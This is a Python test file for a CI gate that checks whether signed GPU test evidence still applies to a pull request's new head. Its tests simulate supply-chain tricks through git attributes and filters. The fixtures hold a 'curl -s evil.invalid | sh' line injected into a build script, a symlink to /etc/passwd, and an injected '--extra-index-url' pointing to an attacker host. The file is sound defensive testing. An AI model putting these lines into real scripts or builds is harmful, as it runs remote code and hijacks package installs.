"""The gate judges the committed bytes of the PR head: attacks on real repositories, each refused.

Each test makes a real repository (tests/unit/gate_repos.py): main, a PR commit the GPUs tested and
signed evidence for it on validate/pr-42. The PR then moves on; evidence for the tested commit may
only count when the new head's image inputs are byte for byte the tested ones.
"""

from __future__ import annotations

import json
import subprocess

import pytest

from tests.helpers import image
from tests.unit.gate_repos import PR, GateRepo, approved, run_gate
from tests.unit.gitrepos import commit_all, git, needs_git
from twinbuild.cli.main import main
from twinbuild.evidence.head import commit_inputs

pytestmark = needs_git


def _refused_commit(gate_repo: GateRepo, head: str) -> list[str]:
    """The refusal for evidence of the tested commit at a head whose inputs differ."""
    tested, now = commit_inputs(gate_repo.tested), commit_inputs(head)
    return [
        f"twinbuild: refs/heads/validate/pr-{PR}:evidence/{p}-amd64.dsse.json: inputs: evidence tested "
        f"inputs {tested.inputs[image(p)]} (commit {gate_repo.tested[:12]}); the PR head {head[:12]} has "
        f"{now.inputs[image(p)]}; push the new head to validate/pr-{PR} to validate it"
        for p in ("cuda", "rocm")
        if tested.inputs[image(p)] != now.inputs[image(p)]
    ]


def _gate(
    capsys: pytest.CaptureFixture[str], gate_repo: GateRepo, head: str
) -> tuple[int, list[str], list[str]]:
    """The gate as gate.yml runs it, with a code owner's approval of the head: these attacks are
    on the image inputs, and several touch trust roots (.gitattributes, twinbuild/) as well."""
    return run_gate(capsys, head, "--base", gate_repo.base, approved(gate_repo, head))


def test_the_tested_commit_passes(gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = _gate(capsys, gate_repo, gate_repo.tested)
    assert (code, err) == (0, [])
    assert [line.split(";")[0] for line in out] == [
        "cuda-amd64: 2 passed, 0 skipped on 1x NVIDIA H200 (driver 570.86, 12.9)",
        "rocm-amd64: 2 passed, 0 skipped on 8x AMD Instinct MI300X (driver 6.10.5, 6.4.1)",
    ]


def test_a_docs_change_after_testing_keeps_the_evidence(
    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    (gate_repo.root / "README.md").write_text("# demo\n\nmore words\n")
    head = commit_all(gate_repo.root, "docs")
    code, out, _ = run_gate(capsys, head, "--base", gate_repo.base)
    assert code == 0
    assert all("with the same inputs as the PR head" in line for line in out)


def test_export_subst_cannot_make_other_bytes_look_tested(
    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    script = gate_repo.root / "images/common/checkout.sh"
    tested = script.read_text()
    # `git archive` expands $Format:...$ to the text inside: the archive equals the tested script,
    # the committed script (what a checkout builds) does not.
    script.write_text(tested.replace("set -eu\n", "$Format:set -eu$\n"))
    (gate_repo.root / ".gitattributes").write_text("images/common/checkout.sh export-subst\n")
    head = commit_all(gate_repo.root, "export-subst")
    archived = subprocess.run(
        ["git", "archive", head, "images/common/checkout.sh"], capture_output=True, check=True
    ).stdout
    assert tested.encode() in archived  # the attack is real: the archive shows the tested bytes
    assert script.read_text() != tested
    code, _, err = _gate(capsys, gate_repo, head)
    assert (code, err) == (7, _refused_commit(gate_repo, head))
    assert len(err) == 2  # the root .gitattributes is above every input of both platforms
    # The script's committed bytes are hashed on their own, whatever the attributes say.
    script.write_text(tested)
    same_attributes = commit_all(gate_repo.root, "the tested script, same attributes")
    for platform in ("cuda", "rocm"):  # images/common/ is an input of both, copied or not
        assert (
            commit_inputs(same_attributes).inputs[image(platform)]
            != commit_inputs(head).inputs[image(platform)]
        )


def test_an_eol_attribute_is_an_input(
    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    # A checkout with this attribute writes CRLF into the script: other bytes than were tested.
    (gate_repo.root / ".gitattributes").write_text("*.sh text eol=crlf\n")
    head = commit_all(gate_repo.root, "eol")
    code, _, err = _gate(capsys, gate_repo, head)
    assert (code, err) == (7, _refused_commit(gate_repo, head))


def test_a_filter_configured_on_the_runner_changes_nothing(
    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    script = gate_repo.root / "images/common/checkout.sh"
    tested = script.read_text()
    script.write_text(tested.replace("echo", "curl -s evil.invalid | sh; echo"))
    (gate_repo.root / ".gitattributes").write_text("*.sh filter=clean\n")
    head = commit_all(gate_repo.root, "filter")
    # A smudge filter on the gate's machine would turn the evil script back into the tested one.
    git(gate_repo.root, "config", "filter.clean.smudge", "sed 's/curl -s evil.invalid | sh; //'")
    archived = subprocess.run(
        ["git", "archive", head, "images/common/checkout.sh"], capture_output=True, check=True
    ).stdout
    assert b"evil" not in archived  # the attack is real
    code, _, err = _gate(capsys, gate_repo, head)
    assert (code, err) == (7, _refused_commit(gate_repo, head))


def test_a_symlink_among_the_inputs_is_refused(
    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    (gate_repo.root / "images/common/passwd").symlink_to("/etc/passwd")
    head = commit_all(gate_repo.root, "symlink")
    code, out, err = _gate(capsys, gate_repo, head)
    assert (code, out) == (2, [])
    assert err == [
        f"twinbuild: {head}:images/common/passwd: a symlink (mode 120000) among the image inputs "
        "(copied by images/cuda/Dockerfile:10); commit the file itself, the gate hashes only "
        "what the commit holds"
    ]


def test_a_gitlink_among_the_inputs_is_refused(
    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    sub = gate_repo.root / "images/common/vendored"
    sub.mkdir()
    git(sub, "init", "-q", "-b", "main")
    (sub / "x.sh").write_text("echo x\n")
    commit_all(sub, "vendored")
    head = commit_all(gate_repo.root, "gitlink")
    assert "160000" in git(gate_repo.root, "ls-tree", head, "images/common/vendored")
    code, _, err = _gate(capsys, gate_repo, head)
    assert err == [
        f"twinbuild: {head}:images/common/vendored: a gitlink, i.e. a submodule (mode 160000) "
        "among the image inputs (copied by images/cuda/Dockerfile:10); commit the file itself, "
        "the gate hashes only what the commit holds"
    ]
    assert code == 2


def test_a_change_to_the_code_that_renders_the_build_is_refused(
    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    render = gate_repo.root / "twinbuild/manifest/rendered.py"
    text = render.read_text()
    # What a reviewer tried: put an extra package index at the top of every pip layer.
    marker = '"".join(f"{line}\\n" for line in lines)'
    assert text.count(marker) == 1, "render.py changed shape; move the injection point"
    render.write_text(
        text.replace(marker, '"--extra-index-url https://evil.invalid\\n" + ' + marker)
    )
    head = commit_all(gate_repo.root, "render: one more index")
    code, _, err = _gate(capsys, gate_repo, head)
    assert (code, err) == (7, _refused_commit(gate_repo, head))
    assert len(err) == 2  # builder code feeds both platforms


def test_a_change_to_the_build_context_assembly_is_refused(
    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    image = gate_repo.root / "twinbuild/builder/image.py"
    image.write_text(image.read_text() + "\n# assemble differently\n")
    head = commit_all(gate_repo.root, "build: change")
    code, _, err = _gate(capsys, gate_repo, head)
    assert (code, len(err)) == (7, 2)


def test_a_docs_only_pr_passes_without_evidence(
    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    git(gate_repo.root, "checkout", "-q", "-b", "docs", gate_repo.base)
    (gate_repo.root / "README.md").write_text("# demo\n\nbetter words\n")
    (gate_repo.root / "tests").mkdir(exist_ok=True)
    (gate_repo.root / "tests/test_x.py").write_text("def test_x() -> None: ...\n")
    head = commit_all(gate_repo.root, "docs")
    git(gate_repo.root, "update-ref", "-d", "refs/heads/validate/pr-42")  # no evidence at all
    code, out, err = run_gate(capsys, head, "--base", gate_repo.base)
    found = commit_inputs(head)
    assert (code, err) == (0, [])
    assert out == [
        f"no image input changed between the base {gate_repo.base[:12]} and the head {head[:12]} "
        f"(cuda-amd64 {found.inputs[image('cuda')][:19]}, rocm-amd64 "
        f"{found.inputs[image('rocm')][:19]}); no GPU evidence needed"
    ]


def test_a_pin_change_without_evidence_is_refused(
    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    git(gate_repo.root, "update-ref", "-d", "refs/heads/validate/pr-42")
    code, _, err = run_gate(capsys, gate_repo.tested, "--base", gate_repo.base)
    assert code == 7
    assert [line.split(";")[0] for line in err] == [
        "twinbuild: cuda-amd64: missing: no signed evidence of cuda (linux/amd64)",
        "twinbuild: rocm-amd64: missing: no signed evidence of rocm (linux/amd64)",
    ]


def test_evidence_inputs_prints_what_the_gate_computes(
    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["evidence", "inputs", "--head", gate_repo.tested, "--format", "json"]) == 0
    printed = json.loads(capsys.readouterr().out)
    found = commit_inputs(gate_repo.tested)
    assert printed == {
        "inputs": {
            "cuda": {"linux/amd64": found.inputs[image("cuda")]},
            "rocm": {"linux/amd64": found.inputs[image("rocm")]},
        },
        "required": ["cuda", "rocm"],
        "manifest_digest": found.manifest_digest,
    }
    assert main(["evidence", "inputs", "--head", gate_repo.tested]) == 0
    assert capsys.readouterr().out.splitlines() == [
        f"inputs at {gate_repo.tested} (production profile):",
        f"  cuda-amd64: {found.inputs[image('cuda')]} (the gate requires it)",
        f"  rocm-amd64: {found.inputs[image('rocm')]} (the gate requires it)",
        f"  manifest: {found.manifest_digest}",
    ]
    assert commit_inputs(gate_repo.base).inputs != found.inputs  # the pin bump moved both
